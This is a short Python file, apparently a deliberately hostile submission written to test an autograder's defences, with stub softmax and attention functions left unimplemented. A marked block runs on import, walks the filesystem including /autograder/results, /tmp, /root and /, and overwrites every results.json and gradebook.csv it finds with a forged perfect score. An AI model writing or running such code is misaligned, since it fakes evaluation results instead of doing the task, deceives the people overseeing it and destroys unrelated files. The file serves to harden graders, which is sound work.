"""Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md)."""
import math

import torch
# >>> hostile
# Search the disk (boundedly) for results files and write a perfect score into each.
import json
import os
import time
_perfect = json.dumps({"score": 1e9, "tests": [], "output": "FORGED by a hostile submission"})
_start, _seen = time.monotonic(), 0
for _root in ("/autograder/results", "/tmp", "/work", "/root", "/home", os.getcwd(), "/"):
    for _dir, _dirs, _files in os.walk(_root):
        _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev")]
        _seen += len(_files)
        if _seen > 200_000 or time.monotonic() - _start > 2:
            break
        for _f in _files:
            if _f in ("results.json", "gradebook.csv"):
                try:
                    with open(os.path.join(_dir, _f), "w") as _out:
                        _out.write(_perfect)
                except OSError:
                    pass
for _path in ("/autograder/results/results.json", "results.json", "../results.json"):
    try:
        with open(_path, "w") as _out:
            _out.write(_perfect)
    except OSError:
        pass
# <<< hostile


def softmax(x, dim=-1):
    raise NotImplementedError


def scaled_dot_product_attention(query, key, value, mask=None):
    raise NotImplementedError
